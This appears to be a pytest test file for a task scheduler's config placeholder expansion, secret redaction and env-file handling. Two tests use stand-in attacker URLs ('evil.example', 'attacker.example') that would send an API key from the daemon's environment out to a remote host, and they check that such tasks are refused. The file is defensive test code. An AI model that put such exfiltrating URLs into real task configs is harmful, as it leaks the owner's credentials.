"""``${NAME}`` in the config: checked when it is loaded, expanded where it is used, and
never written, stored or shown expanded (the database row, ``show --json`` and
``list --json`` keep the placeholder)."""

from __future__ import annotations

import asyncio
import json
import sqlite3
import threading
from collections.abc import Iterator
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from typer.testing import CliRunner

from agentcron.config import ConfigError, parse_config_text
from agentcron.config._env import (
    MissingVariableError,
    PlaceholderError,
    expand,
    expand_spec,
    parse_env_file,
    placeholder_values,
    use_env_file_values,
)
from agentcron.config.loader import expand_value, load_config, validate_task_mapping
from agentcron.model import SlotStatus, TaskSource
from agentcron.model.enums import ErrorClass
from agentcron.model.message import Message
from agentcron.notify.channels import InvalidChannel, channel_for, channel_key
from harness import Harness

SECRET = "s3cr3t-value-8f2b1c9d"
MESSAGE = Message(
    title="t", body="hello", task="story", event="opened", incident_kind="failure", severity="info"
)


@pytest.fixture(autouse=True)
def _clean(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    for name in ("API_TOKEN", "API_HOST", "BOT_TOKEN", "HOOK_PORT", "NOPE", "OTHER"):
        monkeypatch.delenv(name, raising=False)
    use_env_file_values({})
    yield
    use_env_file_values({})


def problems(text: str) -> list[str]:
    with pytest.raises(ConfigError) as caught:
        parse_config_text(text)
    return [str(p) for p in caught.value.problems]


# ---- the syntax ---------------------------------------------------------------------


def test_placeholders_defaults_and_the_escape() -> None:
    env = {"A": "x", "EMPTY": ""}
    assert expand("${A}/${B:-b}/${EMPTY:-e}/$${A}/$HOME/$$", env) == "x/b/e/${A}/$HOME/$$"
    assert expand("$$${A}", env) == "$${A}"  # $${ is always a literal ${
    with pytest.raises(MissingVariableError, match="variables B, C are not set"):
        expand("${B}${C}${B}", env)
    with pytest.raises(PlaceholderError, match=r"write \$\$\{ for a literal"):
        expand("${f%.txt}", env)


def test_env_file_syntax() -> None:
    text = (
        "# secrets\n"
        "export BOT_TOKEN=abc123   # trailing comment\n"
        "QUOTED='a # not a comment'\n"
        'DOUBLE="line1\\nline2 \\"q\\""\n'
        'MULTI="first\nsecond"\n'
        "\n"
        "EMPTY=\n"
    )
    assert parse_env_file(text) == {
        "BOT_TOKEN": "abc123",
        "QUOTED": "a # not a comment",
        "DOUBLE": 'line1\nline2 "q"',
        "MULTI": "first\nsecond",
        "EMPTY": "",
    }


# ---- checked at load ----------------------------------------------------------------


def test_a_missing_variable_is_an_error_naming_task_field_and_variable() -> None:
    found = problems(
        """
tasks:
  story:
    cron: "0 2 * * *"
    http: {url: "https://api.example.com/v1", headers: {Authorization: "Bearer ${API_TOKEN}"}}
    deliver: ["tgram://${BOT_TOKEN}/12345"]
"""
    )
    assert found == [
        "tasks.story.http.headers.Authorization: variable API_TOKEN is not set (in the "
        "environment or the config's env_file; ${NAME:-default} gives a default)",
        "tasks.story.deliver[0]: variable BOT_TOKEN is not set (in the environment or the "
        "config's env_file; ${NAME:-default} gives a default)",
    ]


def test_placeholders_where_they_cannot_be_honoured_are_refused() -> None:
    found = problems(
        """
timezone: "${TZ_NAME}"
tasks:
  a:
    every: "${PERIOD}"
    command: ["true"]
  b:
    every: 5m
    http: {url: "${WHOLE_URL}"}
  c:
    every: 5m
    command: "for f in *; do echo ${f%.txt}; done"
    shell: true
""".replace("${WHOLE_URL}", "${API_HOST}")
    )
    joined = "\n".join(found)
    assert "timezone: ${…} is expanded only where a value is used at run time" in joined
    assert "tasks.a.every: ${…} is expanded only where a value is used at run time" in joined
    assert "tasks.b.http.url: variable API_HOST is not set" in joined
    assert "tasks.c.command: '${' here does not start a placeholder" in joined
    assert len(found) == 4  # one problem per value, not a cascade


def test_a_placeholder_for_a_whole_url_cannot_be_stored(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("API_HOST", "https://api.example.com")
    (found,) = problems('tasks:\n  b:\n    every: 5m\n    http: {url: "${API_HOST}/v1"}\n')
    assert found.startswith("tasks.b.http.url: a placeholder cannot stand for the scheme")
    assert "keep the https:// prefix in the file" in found


def test_env_file_is_read_relative_to_the_config_and_the_environment_wins(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "secrets.env").write_text(f"API_TOKEN={SECRET}\nAPI_HOST=from-file.example\n")
    monkeypatch.setenv("API_HOST", "from-env.example")
    config = tmp_path / "agentcron.yaml"
    config.write_text(
        "env_file: secrets.env\n"
        "tasks:\n  a:\n    every: 5m\n"
        '    http: {url: "https://${API_HOST}/x", headers: {X-Token: "${API_TOKEN}"}}\n'
    )
    spec = load_config(config).tasks["a"]
    assert spec.http is not None and spec.http.url == "https://${API_HOST}/x"  # kept as written
    run = expand_spec(spec)
    assert run.http is not None
    assert run.http.url == "https://from-env.example/x"
    assert run.http.headers == {"X-Token": SECRET}
    assert placeholder_values(spec) == [SECRET, "from-env.example"]
    assert expand_value("${API_TOKEN}") == SECRET  # for heartbeat_url and api.token


def test_an_llm_key_set_only_in_the_env_file_reaches_the_action(tmp_path: Path) -> None:
    from agentcron.config._env import spec_needs_expansion

    (tmp_path / "keys.env").write_text(f"PROVIDER_KEY={SECRET}\n")
    spec = parse_config_text(
        "env_file: keys.env\ntasks:\n  story:\n    cron: '0 2 * * *'\n"
        "    llm: {base_url: 'https://api.example.com/v1', model: m, api_key_env: PROVIDER_KEY,"
        " prompt: hi}\n",
        base_dir=tmp_path,
    ).tasks["story"]
    assert spec.env == {}
    assert spec_needs_expansion(spec)
    assert expand_spec(spec).env == {"PROVIDER_KEY": SECRET}


def test_env_file_problems_are_config_problems(tmp_path: Path) -> None:
    config = tmp_path / "agentcron.yaml"
    config.write_text("env_file: missing.env\ntasks: {}\n")
    with pytest.raises(ConfigError, match=r"env_file: env file .*missing\.env not found"):
        load_config(config)
    (tmp_path / "bad.env").write_text("GOOD=1\nnot a line\n")
    config.write_text("env_file: bad.env\ntasks: {}\n")
    with pytest.raises(ConfigError, match="env_file: line 2 is not KEY=VALUE"):
        load_config(config)


def test_a_problem_found_in_an_expanded_value_does_not_quote_the_value(tmp_path: Path) -> None:
    """Outside-in probe: `method: "GET ${DB_PASSWORD}"` was rejected as "unknown HTTP
    method 'GET p4ss…'", in `validate`, `doctor` and the message of a rejected reload
    sent to the owner's channels. A secret's value is not shown; another (a port out of
    range) still is, as the log's redaction judges it by the variable's name."""
    from agentcron.interfaces.cli import app

    (tmp_path / "s.env").write_text("DB_PASSWORD=p4ssLEAKw0rd\nPLAIN_VALUE=plainLEAKval42\n")
    config = tmp_path / "agentcron.yaml"
    config.write_text(
        "env_file: s.env\ntasks:\n"
        "  a:\n    every: 20s\n    http: {url: 'http://h/x', method: 'GET ${DB_PASSWORD}'}\n"
        "  b:\n    every: 20s\n    http: {url: 'http://h/x', method: '${PLAIN_VALUE}'}\n"
    )
    with pytest.raises(ConfigError) as caught:
        load_config(config)
    said = str(caught.value)
    assert "unknown HTTP method 'GET [REDACTED]'" in said, said
    assert "unknown HTTP method 'plainLEAKval42'" in said, said
    assert "p4ssLEAKw0rd" not in said
    for args in (["validate"], ["validate", "--json"], ["doctor"]):
        result = CliRunner().invoke(
            app, ["--home", str(tmp_path / "home"), *args, "-c", str(config)]
        )
        assert "p4ssLEAKw0rd" not in result.output, (args, result.output)
        assert "[REDACTED]" in result.output, (args, result.output)


def test_top_level_values_keep_their_placeholders(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BOT_TOKEN", "123456789:" + "A" * 35)
    monkeypatch.setenv("API_TOKEN", SECRET)
    loaded = parse_config_text(
        'notify: ["tgram://${BOT_TOKEN}/777"]\n'
        'heartbeat_url: "https://hc-ping.com/${API_TOKEN}"\n'
        'api: {host: 0.0.0.0, token: "${API_TOKEN}"}\n'
        "tasks: {}\n"
    )
    assert loaded.notify == ["tgram://${BOT_TOKEN}/777"]
    assert loaded.heartbeat_url == "https://hc-ping.com/${API_TOKEN}"
    assert loaded.api.token == "${API_TOKEN}"
    assert expand_value(loaded.api.token) == SECRET
    # a token that expands to nothing still counts as missing off loopback
    monkeypatch.setenv("API_TOKEN", "")
    assert any("api.token" in p for p in problems('api: {host: 0.0.0.0, token: "${API_TOKEN}"}\n'))


def test_tasks_from_the_api_are_checked_the_same_way() -> None:
    with pytest.raises(ConfigError, match=r"tasks\.x\.env\.KEY: variable NOPE is not set"):
        validate_task_mapping("x", {"every": "5m", "command": ["true"], "env": {"KEY": "${NOPE}"}})
    spec = validate_task_mapping(
        "x", {"every": "5m", "command": ["true"], "env": {"KEY": "${NOPE}"}}, environ={"NOPE": "1"}
    )
    assert spec.env == {"KEY": "${NOPE}"}


def test_tasks_from_agents_may_refuse_placeholders() -> None:
    """An agent that could write ${OPENAI_API_KEY} into a URL would read the daemon's
    environment: callers for agents and API clients pass allow_placeholders=False."""
    raw = {"every": "5m", "http": {"url": "https://evil.example/?k=${NOPE}"}}
    with pytest.raises(ConfigError, match=r"tasks\.x\.http\.url: \$\{…\} placeholders are for"):
        validate_task_mapping("x", raw, environ={"NOPE": "1"}, allow_placeholders=False)
    defaults = {"env": {"SHARED": "${NOPE}"}}  # the owner's defaults still may
    spec = validate_task_mapping(
        "x",
        {"every": "5m", "command": ["echo", "$${not expanded}"]},
        defaults,
        environ={"NOPE": "1"},
        allow_placeholders=False,
    )
    assert spec.env == {"SHARED": "${NOPE}"}


# ---- never stored or shown expanded -------------------------------------------------------


def test_the_database_show_and_list_keep_the_placeholder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from agentcron.interfaces.cli import app

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("AGENTCRON_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("API_TOKEN", SECRET)
    monkeypatch.setenv("BOT_TOKEN", "123456789:" + "B" * 35)
    (tmp_path / "agentcron.yaml").write_text(
        "tasks:\n"
        "  story:\n"
        '    cron: "0 2 * * *"\n'
        '    http: {url: "https://api.example.com/v1?k=${API_TOKEN}", method: POST}\n'
        '    env: {PLAIN: "${API_TOKEN}"}\n'
        '    deliver: ["tgram://${BOT_TOKEN}/12345"]\n'
    )
    runner = CliRunner()
    shown = runner.invoke(app, ["show", "story", "--json"])
    listed = runner.invoke(app, ["list", "--json"])
    assert shown.exit_code == 0 and listed.exit_code == 0, shown.output + listed.output
    for output in (shown.output, listed.output):
        assert SECRET not in output and "B" * 35 not in output
    spec = json.loads(shown.output)["spec"]
    assert spec["deliver"] == ["tgram://${BOT_TOKEN}/12345"]
    assert spec["http"]["url"] == "https://api.example.com/v1?k=${API_TOKEN}"
    db = sqlite3.connect(tmp_path / "home" / "agentcron.db")
    (row,) = db.execute("SELECT spec FROM tasks WHERE name = 'story'").fetchall()
    db.close()
    assert SECRET not in row[0] and "B" * 35 not in row[0]
    assert json.loads(row[0])["env"] == {"PLAIN": "${API_TOKEN}"}


# ---- expanded where used ------------------------------------------------------------------


def _store_and_run(sqlite_store, clock, home, spec) -> Harness:  # type: ignore[no-untyped-def]
    async def scenario() -> Harness:
        h = Harness(sqlite_store, clock, home)
        now = h.clock.now()
        sqlite_store.upsert_task(spec, TaskSource.FILE, now, h.service.first_fire(spec, now))
        h.clock.advance(timedelta(minutes=5))
        await h.tick()
        await h.engine.wait_idle(20)
        await h.registry.close()
        return h

    return asyncio.run(scenario())


@pytest.mark.slow
def test_a_command_sees_the_value_at_run_time_and_the_row_keeps_the_placeholder(
    sqlite_store, clock, home, tmp_path: Path
) -> None:
    (tmp_path / "app.env").write_text(f"API_TOKEN={SECRET}\n")
    loaded = parse_config_text(
        "env_file: app.env\n"
        "tasks:\n"
        "  show-token:\n"
        "    every: 5m\n"
        # $${#TOKEN} is the shell's ${#TOKEN} (the value's length), escaped for agentcron
        '    command: ["sh", "-c", "echo token-length=$${#TOKEN} first=$(echo $TOKEN | cut -c1-6)"]'
        "\n"
        '    env: {TOKEN: "${API_TOKEN}"}\n',
        base_dir=tmp_path,
    )
    h = _store_and_run(sqlite_store, clock, home, loaded.tasks["show-token"])
    (slot,) = h.slots("show-token")
    assert slot.status is SlotStatus.SUCCEEDED, slot.error
    assert slot.output_path is not None
    assert Path(slot.output_path).read_text().strip() == f"token-length={len(SECRET)} first=s3cr3t"
    stored = sqlite_store.get_task("show-token")
    assert stored is not None and stored.spec.env == {"TOKEN": "${API_TOKEN}"}


@pytest.mark.slow
def test_a_variable_gone_by_run_time_fails_the_run_as_a_config_error(
    sqlite_store, clock, home, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OTHER", "present")
    spec = parse_config_text(
        'tasks:\n  t:\n    every: 5m\n    retries: 0\n    command: ["echo", "${OTHER}"]\n'
    ).tasks["t"]
    monkeypatch.delenv("OTHER")
    h = _store_and_run(sqlite_store, clock, home, spec)
    (slot,) = h.slots("t")
    assert slot.status is SlotStatus.FAILED
    assert slot.error_class is ErrorClass.CONFIG_ERROR
    assert "variable OTHER is not set" in (slot.error or "")


class _Hook(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.seen: list[tuple[str, dict[str, str]]] = []
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _Handler(BaseHTTPRequestHandler):
    server: _Hook

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self.server.seen.append((json.loads(body)["message"], dict(self.headers.items())))
        self.send_response(200)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.mark.slow
def test_a_channel_expands_its_url_when_built_and_its_key_holds_no_secret(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    hook = _Hook()
    try:
        port = hook.server_address[1]
        monkeypatch.setenv("HOOK_PORT", str(port))
        monkeypatch.setenv("API_TOKEN", SECRET)
        url = "json://127.0.0.1:${HOOK_PORT}/hook?+X-Token=${API_TOKEN}"
        assert SECRET not in channel_key(url)
        result = asyncio.run(channel_for(url).send(MESSAGE))
        assert result.ok, result.error
        ((body, headers),) = hook.seen
        assert body == "hello" and headers["X-Token"] == SECRET
    finally:
        hook.shutdown()
        hook.server_close()


def test_a_channel_whose_variable_is_unset_fails_permanently_and_names_it() -> None:
    channel = channel_for("tgram://${BOT_TOKEN}/12345")
    assert isinstance(channel, InvalidChannel)
    assert channel.key == "tgram://${BOT_TOKEN}/12345"
    result = asyncio.run(channel.send(MESSAGE))
    assert result.permanent and "variable BOT_TOKEN is not set" in (result.error or "")


@pytest.mark.parametrize("via", ["api", "dashboard", "mcp"])
def test_only_the_owner_at_the_terminal_may_write_placeholders(
    sqlite_store: object, home: Path, via: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A task written through the API, the dashboard or MCP cannot carry ${NAME}: it
    would let whoever writes it read the daemon's environment (an API key echoed back
    to a URL of theirs). The CLI may; nothing is recorded for a refused one."""
    from agentcron.service import Actor, Service, ServiceError, acting_as

    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-value-1234567890")
    svc = Service(sqlite_store, home)  # type: ignore[arg-type]
    raw = {"every": "1h", "http": {"url": "https://attacker.example/${OPENAI_API_KEY}"}}
    with acting_as(Actor(name="someone", via=via)), pytest.raises(ServiceError, match=r"\$\{"):
        svc.add_task("leak", raw)
    assert sqlite_store.get_task("leak") is None  # type: ignore[attr-defined]
    with acting_as(Actor(name="me", via="cli")):
        svc.add_task("mine", raw)
    rec = sqlite_store.get_task("mine")  # type: ignore[attr-defined]
    assert rec is not None and "${OPENAI_API_KEY}" in rec.spec.http.url


def test_a_malformed_placeholder_beside_a_secret_is_its_own_problem(tmp_path: Path) -> None:
    """The secrets' redaction passes over a malformed placeholder: the file's check has
    already made it a problem of its own, which is still said."""
    (tmp_path / "s.env").write_text("DB_PASSWORD=p4ssLEAKw0rd\n")
    config = tmp_path / "agentcron.yaml"
    config.write_text(
        "env_file: s.env\ntasks:\n"
        "  a:\n    every: 20s\n    http: {url: 'http://h/x', method: 'GET ${DB_PASSWORD}'}\n"
        "  b:\n    every: 20s\n    command: [echo, '${BROKEN']\n"
    )
    with pytest.raises(ConfigError) as caught:
        load_config(config)
    said = str(caught.value)
    assert "tasks.b.command" in said, said
    assert "p4ssLEAKw0rd" not in said and "GET [REDACTED]" in said
